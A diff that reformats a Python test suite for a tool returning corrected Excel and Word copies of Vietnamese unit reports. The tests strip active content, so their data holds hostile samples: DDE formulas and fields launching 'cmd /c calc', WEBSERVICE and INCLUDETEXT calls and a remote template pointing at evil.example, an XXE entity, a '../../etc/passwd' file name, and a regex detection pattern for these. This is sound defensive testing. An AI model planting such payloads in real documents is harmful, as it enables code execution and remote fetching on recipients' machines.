@@ -48,15 +48,28 @@ class Night:
     def original(self, sha256: str) -> Path:
         return self.folder / sha256
 
-    def came(self, name, data=b"", status="returned", unit=UNIT.code, at="2022-04-15 08:00+07", reason=None):
+    def came(
+        self,
+        name,
+        data=b"",
+        status="returned",
+        unit=UNIT.code,
+        at="2022-04-15 08:00+07",
+        reason=None,
+    ):
         sha256 = hashlib.sha256(data).hexdigest()
         self.original(sha256).write_bytes(data)
-        self.con.execute("INSERT INTO submission VALUES (?, ?, ?, ?, 'folder', NULL, ?, ?, ?, false)",
-                         [name, name, sha256, at, unit, status, reason])
+        self.con.execute(
+            "INSERT INTO submission VALUES (?, ?, ?, ?, 'folder', NULL, ?, ?, ?, false)",
+            [name, name, sha256, at, unit, status, reason],
+        )
 
     def found(self, name, sheet="Chi bộ", cell="G5", message=MESSAGE, severity="error", value="40"):
-        self.con.execute("INSERT INTO finding VALUES (?, 'attended_exceeds_total', ?, 'cells', 'Chi bộ thôn A', "
-                         "'members_attended', ?, ?, ?, ?, false)", [name, severity, value, sheet, cell, message])
+        self.con.execute(
+            "INSERT INTO finding VALUES (?, 'attended_exceeds_total', ?, 'cells', 'Chi bộ thôn A', "
+            "'members_attended', ?, ?, ?, ?, false)",
+            [name, severity, value, sheet, cell, message],
+        )
 
     def told(self, as_of=AFTER, unit=UNIT.code) -> dict[str, Path]:
         written = write_feedback(self.con, self.original, CAMPAIGN, as_of, self.home)
@@ -109,7 +122,15 @@ def test_the_list_comes_first_and_links_to_each_place(night, tmp_path):
     assert sheet.title == "Cần sửa"
     assert [[c.value for c in row] for row in sheet.iter_rows(5, 6)] == [
         ["1", "Sai", "trang “Chi bộ”, ô G5", "Chi bộ thôn A – Số đảng viên dự", "40", MESSAGE],
-        ["2", "Xem lại", "trang “Chi bộ”, ô D6", "Chi bộ thôn A – Số đảng viên dự", "20/4", "Ngoài thời gian."]]
+        [
+            "2",
+            "Xem lại",
+            "trang “Chi bộ”, ô D6",
+            "Chi bộ thôn A – Số đảng viên dự",
+            "20/4",
+            "Ngoài thời gian.",
+        ],
+    ]
     assert [sheet[f"C{r}"].hyperlink.location for r in (5, 6)] == ["'Chi bộ'!G5", "'Chi bộ'!D6"]
 
 
@@ -121,8 +142,18 @@ def test_a_place_within_a_merged_range_is_marked_at_its_first_cell(night):
     assert openpyxl.load_workbook(night.told()["Cần sửa - BC.xlsx"])["Chi bộ"]["F5"].comment
 
 
-@pytest.mark.parametrize(("sheet", "cell"), [("Chi bộ", ""), ("Chi bộ", "ô G5"), ("Không có", "G5"), ("", ""),
-                                             ("Chi bộ", "ZZZZ9"), ("Chi bộ", "A0"), ("Chi bộ", "A99999999")])
+@pytest.mark.parametrize(
+    ("sheet", "cell"),
+    [
+        ("Chi bộ", ""),
+        ("Chi bộ", "ô G5"),
+        ("Không có", "G5"),
+        ("", ""),
+        ("Chi bộ", "ZZZZ9"),
+        ("Chi bộ", "A0"),
+        ("Chi bộ", "A99999999"),
+    ],
+)
 def test_a_place_that_is_not_there_is_listed_and_marks_nothing(night, sheet, cell):
     night.came("BC.xlsx", workbook(A1="x"))
     night.found("BC.xlsx", sheet=sheet, cell=cell)
@@ -132,7 +163,9 @@ def test_a_place_that_is_not_there_is_listed_and_marks_nothing(night, sheet, cel
 
 
 def test_no_formula_link_macro_or_name_of_the_unit_comes_back(night):
-    book = openpyxl.load_workbook(BytesIO(workbook(A1="=WEBSERVICE(\"http://x\")", A2="=cmd|'/c calc'!A1")))
+    book = openpyxl.load_workbook(
+        BytesIO(workbook(A1='=WEBSERVICE("http://x")', A2="=cmd|'/c calc'!A1"))
+    )
     book["Chi bộ"]["A3"].hyperlink = "http://x"
     book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="'Chi bộ'!$A$1")
     night.came("BC.xlsm", saved(book))
@@ -143,15 +176,20 @@ def test_no_formula_link_macro_or_name_of_the_unit_comes_back(night):
     assert not [c.coordinate for c in cells if c.data_type == "f"]
     assert not [c for c in cells if c.hyperlink and c.hyperlink.target] and not marked.defined_names
     assert marked["Cần sửa"]["E5"].value == '=HYPERLINK("http://x")'
-    assert not [n for n in zipfile.ZipFile(path).namelist() if "vba" in n.lower() or "external" in n.lower()]
+    assert not [
+        n for n in zipfile.ZipFile(path).namelist() if "vba" in n.lower() or "external" in n.lower()
+    ]
 
 
-@pytest.mark.parametrize(("name", "data"), [
-    ("BC.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
-    ("BC.csv", "Đơn vị báo cáo;Xã Tân Sơn".encode()),
-    ("BC.xlsx", b"PK\x03\x04" + bytes(200)),
-    ("BC.xlsx", b""),
-])
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("BC.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
+        ("BC.csv", "Đơn vị báo cáo;Xã Tân Sơn".encode()),
+        ("BC.xlsx", b"PK\x03\x04" + bytes(200)),
+        ("BC.xlsx", b""),
+    ],
+)
 def test_what_cannot_be_marked_gets_a_list_of_its_own(night, name, data):
     night.came(name, data)
     night.found(name, message="=1+1")
@@ -174,9 +212,14 @@ def test_a_workbook_that_breaks_the_library_is_listed_and_the_next_is_marked(nig
 
 
 def test_a_rejected_file_is_not_opened_again_and_its_reason_is_told(night, tmp_path):
-    night.came("hỏng.xlsx", report(tmp_path), status="rejected", reason="Tệp bị hỏng; đề nghị gửi lại.")
+    night.came(
+        "hỏng.xlsx", report(tmp_path), status="rejected", reason="Tệp bị hỏng; đề nghị gửi lại."
+    )
     told = night.told()
-    assert openpyxl.load_workbook(told["Cần sửa - hỏng.xlsx"]).active["A2"].value == "Tệp bị hỏng; đề nghị gửi lại."
+    assert (
+        openpyxl.load_workbook(told["Cần sửa - hỏng.xlsx"]).active["A2"].value
+        == "Tệp bị hỏng; đề nghị gửi lại."
+    )
     assert "Tệp bị hỏng; đề nghị gửi lại." in told[LETTER].read_text(encoding="utf-8")
 
 
@@ -189,20 +232,37 @@ def test_a_word_report_is_shaded_and_commented_where_it_is_wrong(night, tmp_path
     told = night.told()
     marked = Document(str(told["Cần sửa - BC.docx"]))
     assert sorted(c.text for c in marked.comments) == ["Sai: Chuyên đề khác.", f"Sai: {MESSAGE}"]
-    shaded = [r.text for r in marked.tables[1].rows[1].cells[6].paragraphs[0].runs if 'fill="F4B183"' in r._r.xml]
+    shaded = [
+        r.text
+        for r in marked.tables[1].rows[1].cells[6].paragraphs[0].runs
+        if 'fill="F4B183"' in r._r.xml
+    ]
     assert shaded == [attended]
     assert openpyxl.load_workbook(told["Cần sửa - BC.xlsx"]).sheetnames == ["Cần sửa"]
 
 
 FIELD = '<w:p><w:fldSimple w:instr="{0}"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>'
-SPLIT = ("".join(f'<w:r><w:{part}</w:r>' for part in (
-    'fldChar w:fldCharType="begin"/>', "instrText> DD</w:instrText>", "instrText>E{0}</w:instrText>",
-    'fldChar w:fldCharType="separate"/>', "t>a</w:t>", 'fldChar w:fldCharType="end"/>')))
+SPLIT = "".join(
+    f"<w:r><w:{part}</w:r>"
+    for part in (
+        'fldChar w:fldCharType="begin"/>',
+        "instrText> DD</w:instrText>",
+        "instrText>E{0}</w:instrText>",
+        'fldChar w:fldCharType="separate"/>',
+        "t>a</w:t>",
+        'fldChar w:fldCharType="end"/>',
+    )
+)
 RELATION = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
-ACTS = re.compile(rb"DDE|INCLUDE|LINK|MERGE|http://evil|cmd|evil|TargetMode|fldSimple|fldChar|instrText|altChunk|object")
-HOSTILE_PARTS = [   # a part of a Word report, and what stands in it
+ACTS = re.compile(
+    rb"DDE|INCLUDE|LINK|MERGE|http://evil|cmd|evil|TargetMode|fldSimple|fldChar|instrText|altChunk|object"
+)
+HOSTILE_PARTS = [  # a part of a Word report, and what stands in it
     ("word/header1.dat", f'<w:hdr xmlns:w="{W}">{FIELD.format("DDEAUTO cmd /c calc")}</w:hdr>'),
-    ("word/header1.xml", f'<w:hdr xmlns:w="{W}"><w:p>{SPLIT.format("AUTO cmd calc")}</w:p></w:hdr>'),
+    (
+        "word/header1.xml",
+        f'<w:hdr xmlns:w="{W}"><w:p>{SPLIT.format("AUTO cmd calc")}</w:p></w:hdr>',
+    ),
     ("word/document.xml", FIELD.format("INCLUDETEXT http://evil.example/x")),
     ("word/document.xml", FIELD.format("INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d")),
     ("word/document.xml", FIELD.format("LINK Excel.Sheet.12 http://evil.example/x.xlsx")),
@@ -211,15 +271,31 @@ HOSTILE_PARTS = [   # a part of a Word report, and what stands in it
     ("word/document.xml", f"<w:p>{SPLIT.format(SPLIT.format(' cmd'))}</w:p>"),
     ("word/document.xml", "<w:p><w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r></w:p>"),
     ("word/document.xml", '<w:altChunk r:id="evil"/>'),
-    ("word/document.xml", '<w:p><w:r><w:object><o:OLEObject r:id="evil" ProgID="Package"/></w:object></w:r></w:p>'),
-    ("word/settings.xml", f'<w:settings xmlns:w="{W}"><w:mailMerge><w:query w:val="SELECT evil"/></w:mailMerge>'
-                          '<w:attachedTemplate w:val="evil"/></w:settings>'),
-    ("word/_rels/settings.xml.rels", RELATION.format('<Relationship Id="evil" Type="http://x/attachedTemplate" '
-                                                     'Target="http://evil.example/t.dotm" TargetMode="External"/>')),
-    ("word/_rels/document9.xml.rels", RELATION.format('<Relationship Id="evil" Type="http://x/unheardOf" '
-                                                      'Target="evil.bin"/>')),
-    ("word/embeddings/oleObject1.bin", "evil"), ("word/vbaProject.bin", "evil"), ("evil.dat", "evil"),
-    ("customXml/item9.xml", "<evil/>"), ("word/footnotes.xml", "<evil"),
+    (
+        "word/document.xml",
+        '<w:p><w:r><w:object><o:OLEObject r:id="evil" ProgID="Package"/></w:object></w:r></w:p>',
+    ),
+    (
+        "word/settings.xml",
+        f'<w:settings xmlns:w="{W}"><w:mailMerge><w:query w:val="SELECT evil"/></w:mailMerge>'
+        '<w:attachedTemplate w:val="evil"/></w:settings>',
+    ),
+    (
+        "word/_rels/settings.xml.rels",
+        RELATION.format(
+            '<Relationship Id="evil" Type="http://x/attachedTemplate" '
+            'Target="http://evil.example/t.dotm" TargetMode="External"/>'
+        ),
+    ),
+    (
+        "word/_rels/document9.xml.rels",
+        RELATION.format('<Relationship Id="evil" Type="http://x/unheardOf" Target="evil.bin"/>'),
+    ),
+    ("word/embeddings/oleObject1.bin", "evil"),
+    ("word/vbaProject.bin", "evil"),
+    ("evil.dat", "evil"),
+    ("customXml/item9.xml", "<evil/>"),
+    ("word/footnotes.xml", "<evil"),
     ("word/footer9.xml", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///evil">]><x>&y;</x>'),
 ]
 
@@ -254,7 +330,9 @@ def test_nothing_of_a_word_reports_package_comes_back(night, tmp_path, name, con
         assert set(package.namelist()) <= {*template.namelist(), "word/comments.xml"}
         for part in package.namelist():
             content = package.read(part)
-            if part == "word/styles.xml" or (part in template.namelist() and content == template.read(part)):
+            if part == "word/styles.xml" or (
+                part in template.namelist() and content == template.read(part)
+            ):
                 continue
             assert not ACTS.search(content), part
 
@@ -273,18 +351,25 @@ def test_word_report_is_written_anew_with_its_texts_tables_and_merged_cells(nigh
     copy = Document(str(night.told()["Cần sửa - BC.docx"]))
     assert copy.paragraphs[1].text == "Kính gửi: Ban Tuyên giáo =1+1"
     assert [[cell.text for cell in row.cells] for row in copy.tables[0].rows] == [
-        ["Chi bộ", "Đảng viên", "Đảng viên"], ["Chi bộ", "", ""], ["Thôn A", "20", "40"]]
+        ["Chi bộ", "Đảng viên", "Đảng viên"],
+        ["Chi bộ", "", ""],
+        ["Thôn A", "20", "40"],
+    ]
     assert sorted(comment.text for comment in copy.comments) == ["Sai: Hai cột.", f"Sai: {MESSAGE}"]
     assert copy.core_properties.author == CAMPAIGN.document.issuer_name
 
 
-def test_a_workbook_comes_back_without_what_could_act_and_its_sheet_is_known_by_its_hidden_name(night):
+def test_a_workbook_comes_back_without_what_could_act_and_its_sheet_is_known_by_its_hidden_name(
+    night,
+):
     book = openpyxl.load_workbook(BytesIO(workbook(A1=1, A2=2, B1="x")))
     book.properties.creator = "Nguyễn Văn A"
     chart = openpyxl.chart.BarChart()
     chart.add_data(openpyxl.chart.Reference(book["Chi bộ"], min_col=1, min_row=1, max_row=2))
     book["Chi bộ"].add_chart(chart, "D4")
-    book["Chi bộ"].defined_names["Print_Area"] = DefinedName("Print_Area", attr_text="'Chi bộ'!$A$1")
+    book["Chi bộ"].defined_names["Print_Area"] = DefinedName(
+        "Print_Area", attr_text="'Chi bộ'!$A$1"
+    )
     book["Chi bộ"].add_table(openpyxl.worksheet.table.Table(displayName="T", ref="A3:B4"))
     book["Chi bộ"]["A3"], book["Chi bộ"]["B3"] = "một", "hai"
     book["Chi bộ"].oddHeader.center.text = "&G evil"
@@ -303,14 +388,20 @@ def test_a_workbook_comes_back_without_what_could_act_and_its_sheet_is_known_by_
     assert marked.properties.creator == CAMPAIGN.document.issuer_name
     assert marked["Chi bộ"]["B1"].quotePrefix and not marked["Chi bộ"]["A1"].quotePrefix
     assert (marked["Chi bộ"]["A1"].value, marked["Chi bộ"]["XFD1048576"].value) == (1, "xa")
-    assert not [n for n in zipfile.ZipFile(path).namelist() if "chart" in n or "media" in n or "table" in n]
-    assert "evil" not in "".join(zipfile.ZipFile(path).read(n).decode() for n in zipfile.ZipFile(path).namelist())
+    assert not [
+        n for n in zipfile.ZipFile(path).namelist() if "chart" in n or "media" in n or "table" in n
+    ]
+    assert "evil" not in "".join(
+        zipfile.ZipFile(path).read(n).decode() for n in zipfile.ZipFile(path).namelist()
+    )
 
 
 def test_the_letter_says_which_file_which_cell_what_to_do_and_by_when(night, tmp_path):
     night.came("thư/BC Tân Sơn.xlsx", report(tmp_path))
     night.found("thư/BC Tân Sơn.xlsx")
-    early, late = (night.told(as_of)[LETTER].read_text(encoding="utf-8") for as_of in (BEFORE, AFTER))
+    early, late = (
+        night.told(as_of)[LETTER].read_text(encoding="utf-8") for as_of in (BEFORE, AFTER)
+    )
     assert early.startswith(f"Kính gửi: {UNIT.aliases[0]}\n")
     assert "nhận lúc 08 giờ 00 phút ngày 15/4/2022" in early
     assert f"- Trang “Chi bộ”, ô G5 (Chi bộ thôn A – Số đảng viên dự): {MESSAGE}\n" in early
@@ -327,7 +418,9 @@ def test_a_letter_names_the_first_errors_and_counts_the_others(night):
     assert text.count("Trang “Chi bộ”") == 15 and "Còn 25 chỗ sai khác" in text
 
 
-def test_a_unit_that_has_sent_a_good_file_since_is_told_that_it_need_not_send_again(night, tmp_path):
+def test_a_unit_that_has_sent_a_good_file_since_is_told_that_it_need_not_send_again(
+    night, tmp_path
+):
     night.came("BC.xlsx", report(tmp_path))
     night.found("BC.xlsx")
     night.came("BC 2.xlsx", b"good", status="accepted", at="2022-04-15 10:00+07")
@@ -364,31 +457,44 @@ def test_what_is_made_anew_at_another_time_has_the_same_bytes(night, tmp_path):
     first = {name: path.read_bytes() for name, path in night.told().items()}
     assert {name.rpartition(".")[2] for name in first} == {"xlsx", "docx", "txt"}
     shutil.rmtree(night.home)
-    time.sleep(2.1)      # a package tells even seconds
+    time.sleep(2.1)  # a package tells even seconds
     assert {name: path.read_bytes() for name, path in night.told().items()} == first
 
 
 def test_two_files_of_one_name_do_not_overwrite_each_other(night):
     for number, name in enumerate(("a/BC.xlsx", "b/bc.xlsx", "c/BC.csv")):
         night.came(name, workbook(A1=number), at=f"2022-04-15 0{number}:00+07")
-    assert night.told().keys() == {"Cần sửa - BC.xlsx", "Cần sửa - bc (2).xlsx", "Cần sửa - BC (3).xlsx", LETTER}
+    assert night.told().keys() == {
+        "Cần sửa - BC.xlsx",
+        "Cần sửa - bc (2).xlsx",
+        "Cần sửa - BC (3).xlsx",
+        LETTER,
+    }
 
 
 def test_thousands_of_findings_are_cut_where_mending_cells_ends(night):
     night.came("BC.csv", b"x")
-    night.con.execute(f"INSERT INTO finding SELECT 'BC.csv', 'not_a_count', 'error', 'cells', NULL, 'members_total', "
-                      f"'?', 'Chi bộ', 'F' || i, 'Sai', false FROM range({MOST_FINDINGS + 500}) t(i)")
-    assert openpyxl.load_workbook(night.told()["Cần sửa - BC.xlsx"]).active.max_row == MOST_FINDINGS + 3
+    night.con.execute(
+        f"INSERT INTO finding SELECT 'BC.csv', 'not_a_count', 'error', 'cells', NULL, 'members_total', "
+        f"'?', 'Chi bộ', 'F' || i, 'Sai', false FROM range({MOST_FINDINGS + 500}) t(i)"
+    )
+    assert (
+        openpyxl.load_workbook(night.told()["Cần sửa - BC.xlsx"]).active.max_row
+        == MOST_FINDINGS + 3
+    )
 
 
-@pytest.mark.parametrize(("name", "safe"), [
-    ("BC Xã Tân Sơn.xlsx", "BC Xã Tân Sơn"),
-    ("../../etc/passwd", "passwd"),
-    ("thư\\..\\BC?*.xlsx", "BC"),
-    ("CON:|<>.xlsx", "CON"),
-    ("...", "tep"),
-    ("đ" * 400 + ".xlsx", "đ" * 75),
-])
+@pytest.mark.parametrize(
+    ("name", "safe"),
+    [
+        ("BC Xã Tân Sơn.xlsx", "BC Xã Tân Sơn"),
+        ("../../etc/passwd", "passwd"),
+        ("thư\\..\\BC?*.xlsx", "BC"),
+        ("CON:|<>.xlsx", "CON"),
+        ("...", "tep"),
+        ("đ" * 400 + ".xlsx", "đ" * 75),
+    ],
+)
 def test_a_name_becomes_safe_for_any_disk(name, safe):
     assert safe_stem(name) == safe and safe_name(safe) == safe
 
